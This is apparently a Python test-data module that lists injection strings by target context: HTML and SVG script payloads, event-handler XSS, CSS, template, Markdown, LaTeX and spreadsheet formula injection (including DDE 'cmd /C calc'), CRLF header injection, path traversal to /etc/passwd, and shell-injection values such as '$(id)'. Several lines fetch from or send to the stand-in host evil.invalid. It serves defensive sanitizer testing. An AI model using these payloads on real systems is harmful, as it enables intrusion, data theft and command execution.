"""Texts by which someone could try to have a page, an export or a log do more than show them.

Grouped by what they are written for. Each that can run says so by setting `window.pwned`, calling
`alert` or asking for something at `evil.invalid`; `tripwire` sees all three. `test_corpus` puts
every one of them through every way in.
"""

from __future__ import annotations

SCRIPTS = [
    "<script>window.pwned=1</script>",
    "<ScRiPt/x>window.pwned=1</sCrIpT >",
    "<script src=//evil.invalid/x.js></script>",
    "<script>window.pwned=1",
    "</script><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "<!--><script>window.pwned=1</script>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><script>window.pwned=1</script></template>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.pwned%3D1%3C/script%3E",
    '"-window.pwned=1-"',
    "';window.pwned=1;//",
    "`);window.pwned=1;(`",
    "]]></script><script>window.pwned=1</script>",
]
HANDLERS = [
    "<img src=x onerror=window.pwned=1>",
    "<img src=x onerror='alert(1)'>",
    "<img/src/onerror=window.pwned=1>",
    "<img src=https://evil.invalid/x.png>",
    "<img src=x:x onerror=\"fetch('https://evil.invalid/')\">",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<input autofocus onfocus=window.pwned=1>",
    "<select autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<p style=animation-name:fade onanimationstart=window.pwned=1>",
    '" onmouseover=window.pwned=1 x="',
    "' autofocus onfocus=window.pwned=1 x='",
    "x onpointerenter=window.pwned=1",
    "<div popover id=p onbeforetoggle=window.pwned=1>x</div>",
]
DRAWN = [
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><script href=data:,window.pwned=1 /></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><foreignObject><iframe onload=window.pwned=1></iframe></foreignObject></svg>",
    "<svg><use href=https://evil.invalid/x.svg#a /></svg>",
    "<math><mtext></p><img src=x onerror=window.pwned=1></mtext></math>",
    "<math><mi xlink:href=javascript:window.pwned=1>x</mi></math>",
]
FRAMES_AND_ADDRESSES = [
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=data:text/html,<script>parent.pwned=1</script>></object>",
    "<embed src=https://evil.invalid/x.swf>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<a href=' &#1;javascript:window.pwned=1'>x</a>",
    '<a href="jav&#x09;ascript:window.pwned=1">x</a>',
    "<form action=https://evil.invalid/><button>x</button></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.invalid/>",
    "<base href=https://evil.invalid/>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<link rel=prefetch href=https://evil.invalid/x>",
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1//",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.invalid/x",
    "https://evil.invalid/?q=1",
]
HALF_CLOSED = [
    "<b", "</p", "<!--", "-->", "<!doctype html>", "<?xml version='1.0'?>", "<p title=\"", "&#x3c;b",
    "</article></blockquote></section></main></body></html>", "<xmp>", "<plaintext>", "<listing>",
    "p<0.05 and n>30, x<y>z, a<b>c</b>", "<CH3>-CH2-<OH>", "&notit; &copy &amp;lt;", "<>", "< b >",
]  # fmt: skip
STYLES = [
    "<style>*{background:url(https://evil.invalid/x)}</style>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<div style=position:fixed;inset:0;z-index:9>x</div>",
    "}body{display:none}",
    "*/body{display:none}/*",
    "color:red;background:url(//evil.invalid/x)",
    "expression(window.pwned=1)",
    "-moz-binding:url(//evil.invalid/x.xml)",
]
TEMPLATES = [
    "{{7*7}}", "{{constructor.constructor('window.pwned=1')()}}", "{{{window.pwned=1}}}",
    "${7*7}", "${window.pwned=1}", "`${window.pwned=1}`", "$name $$ $typed ${typed} $",
    "<%= 7*7 %>", "<% window.pwned=1 %>", "{% for x in y %}{% endfor %}", "{% raw %}", "{# note #}",
    "#{7*7}", "#set($x=1)$x", "@{7*7}", "{title} {count} {0} {}", "%s %(name)s %n %x %%",
    "{0.__class__.__mro__}", "[[${7*7}]]", "*{7*7}", "one|many", "{0}|{1}", "<#if x>", "$&$1$`$'",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:window.pwned=1)", "![x](https://evil.invalid/x.png)", "![x][1]",
    "[1]: https://evil.invalid/ 'x'", "<https://evil.invalid/>", "[x](data:text/html,y)",
    "# one", "> two", "- three", "4. four", "***", "---", "===", "`five`", "```js",
    "a | b", "|---|---|", "*a* _b_ **c** __d__ ~~e~~", "a\\*b\\_c", "[^1] and [^1]: six",
    "<b>x</b> **<i>y</i>**", ":tada: @user #1", "- [ ] task", "<details><summary>x</summary></details>",
    "\u2060# not a heading", "end with a backslash\\", "two spaces  at the end",
]  # fmt: skip
FORMULAE = [
    "$x^2$ and $$y$$", "\\(a\\) \\[b\\]", "\\begin{align}x\\end{align}", "\\input{/etc/passwd}",
    "\\href{javascript:window.pwned=1}{x}", "\\write18{id}", "\\unicode{x3c}script", "\\def\\x{\\x}\\x",
    "\\class{x}{y}\\style{position:fixed}{z}", "H_2O, x_i^{2}, 10^{-3}", "%comment to the end",
]  # fmt: skip
SHEETS = [
    "=1+1", "=HYPERLINK(\"https://evil.invalid/\",\"x\")", "=cmd|'/C calc'!A0", "+1+1", "-2+3",
    "@SUM(1)", "\t=1+1", "\u3000=1+1", "=IMPORTXML(\"https://evil.invalid/\",\"//a\")", "\"=1+1\"",
    "a,b;c\td", "\"a\"\"b\"", "＝1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "'=1+1",
]  # fmt: skip
CITATIONS = [
    "x}, title = {y", "x}} @book{b, title = {y}}", "@comment{x} @string{a = {b}} @preamble{\"c\"}",
    "{{{", "}}}", "\\}", "\\{", "a # b", "x\" and \"y", "Smith and others", "and and and",
    "TY  - BOOK", "ER  - ", "AU  - Evil, A", "x ER  - TY  - JOUR", "%0 Book", "%A Evil",
    "\",\"type\":\"book\"}]", "[{\"id\":\"x\"}]", "FN Clarivate", "PMID- 1", "<record><title>x</title></record>",
    "10.1000/<script>window.pwned=1</script>", "10.1000/x} , note={y", "10.1000/a_b%20#c?d&e",
]  # fmt: skip
UNSEEN = [
    "a\u202eb\u202cc", "\u2066x\u2069 \u2067y\u2069", "\u200fabc\u200e", "a\u200bb\u200cc\u200dd",
    "a\u00adb\u2060c\ufeffd", "＜script＞window.pwned=1＜/script＞", "\uff1cimg src=x onerror=window.pwned=1\uff1e",
    "‹script›window.pwned=1‹/script›", "<\u200bscript>window.pwned=1</script>", "ſcript <ſcript>", "<İmg>",
    "e\u0301\u0301\u0301\u0301\u0301", "\U000e0041\U000e0042 tags", "\ufff9a\ufffab\ufffb", "𝛼<𝛽>𝛾",
    "👩\u200d⚕️🏳️\u200d🌈", "\ue000 \uf8ff", "ﷺ﷽", "a\u0085b", "a\u2028b\u2029c", "\ufffd\ufffe",
]  # fmt: skip
CONTROLS = [
    "a\x1b[31mb\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.invalid/\x1b\\x", "a\x07b", "a\x08\x08b",
    "a\x7fb", "\x9b31mred", "a\x01b\x02c", "a\x0bb\x0cc",
]  # fmt: skip
HEADERS = [
    "a\r\nSet-Cookie: pwned=1", "a\r\n\r\n<script>window.pwned=1</script>", "a\nb", "a\rb",
    "a%0d%0aSet-Cookie:%20pwned=1", "a\u560d\u560aSet-Cookie: pwned=1", "a\"; filename=\"b.exe",
    "{\"who\": \"root\"}\n{\"what\": \"forged\"}", "a\x00b",
]  # fmt: skip
PATHS = [
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\win.ini", "....//....//x",
    "%2e%2e%2fx", "..;/x", "~root", "$HOME", "$(id)", "`id`", "; id", "| id", "-rf", "--library=/", "con", "nul.txt",
    "file:///etc/passwd", "a/../../b", ".", "..", "*", "?", "a" * 300,
]  # fmt: skip
GROUPS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "SVG and MathML": DRAWN,
    "frames and addresses": FRAMES_AND_ADDRESSES,
    "half-closed tags": HALF_CLOSED,
    "style sheets": STYLES,
    "templates": TEMPLATES,
    "Markdown": MARKDOWN,
    "formulae": FORMULAE,
    "spreadsheets": SHEETS,
    "citation files": CITATIONS,
    "characters that are not seen": UNSEEN,
    "control characters": CONTROLS,
    "headers": HEADERS,
    "paths": PATHS,
}
ALL = [text for group in GROUPS.values() for text in group]
